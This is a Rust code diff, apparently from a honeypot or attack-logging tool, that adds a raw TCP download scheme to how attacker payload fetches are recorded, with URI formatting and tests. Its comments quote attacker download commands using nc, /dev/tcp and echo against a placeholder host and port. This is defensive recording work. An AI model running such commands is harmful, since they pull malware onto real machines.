@@ -21,11 +21,14 @@ pub enum Scheme {
     /// A file the attack writes itself (`echo -ne '\x7f\x45…' >> f`, `printf`): nothing to
     /// fetch, the bytes are in `Request::data`.
     Inline,
+    /// A raw TCP stream (`nc HOST PORT > f`, `cat </dev/tcp/HOST/PORT`): connect, send
+    /// nothing, keep what the server sends until it closes. `path` is empty, `port` set.
+    Tcp,
 }
 
 impl Scheme {
     /// The `dl_type` word of the attack record and logs: `ftp`, `tftp`, `http`, `https`,
-    /// `inline`.
+    /// `inline`, `tcp`.
     pub fn name(self) -> &'static str {
         match self {
             Scheme::Ftp => "ftp",
@@ -33,17 +36,18 @@ impl Scheme {
             Scheme::Http => "http",
             Scheme::Https => "https",
             Scheme::Inline => "inline",
+            Scheme::Tcp => "tcp",
         }
     }
 
-    /// The server port used when the command names none.
+    /// The server port used when the command names none (a raw TCP fetch always names one).
     pub fn default_port(self) -> u16 {
         match self {
             Scheme::Ftp => 21,
             Scheme::Tftp => 69,
             Scheme::Http => 80,
             Scheme::Https => 443,
-            Scheme::Inline => 0,
+            Scheme::Inline | Scheme::Tcp => 0,
         }
     }
 }
@@ -210,7 +214,8 @@ impl Request {
 
     /// A URI naming the request for the attack record and the logs:
     /// `ftp://user:pass@host:port/path`, `tftp://host/file`, `http://host:port/path`; IPv6
-    /// hosts in brackets; the default port left out. `inline:<filename>` for inline files.
+    /// hosts in brackets; the default port left out. `inline:<filename>` for inline files,
+    /// `tcp://host:port` for a raw TCP stream.
     /// An FTP or TFTP path is what follows the `/` after the server, so an absolute one
     /// (`/etc/passwd`) shows as `ftp://host//etc/passwd`, which reads back the same.
     pub fn uri(&self) -> String {
@@ -236,6 +241,9 @@ impl Request {
         if let Some(p) = self.port.filter(|&p| p != self.scheme.default_port()) {
             s.push(':');
             s.push_str(&p.to_string());
+        }
+        if self.scheme == Scheme::Tcp {
+            return s;
         }
         if !matches!(self.scheme, Scheme::Http | Scheme::Https) || !self.path.starts_with('/') {
             s.push('/');
@@ -347,6 +355,8 @@ mod tests {
         let mut i = req(Scheme::Inline, "", None, "");
         i.filename = "dvrHelper".into();
         assert_eq!(i.uri(), "inline:dvrHelper");
+        assert_eq!(req(Scheme::Tcp, "192.0.2.4", Some(4444), "").uri(), "tcp://192.0.2.4:4444");
+        assert_eq!(req(Scheme::Tcp, "2001:db8::1", Some(80), "").uri(), "tcp://[2001:db8::1]:80");
     }
 
     #[test]
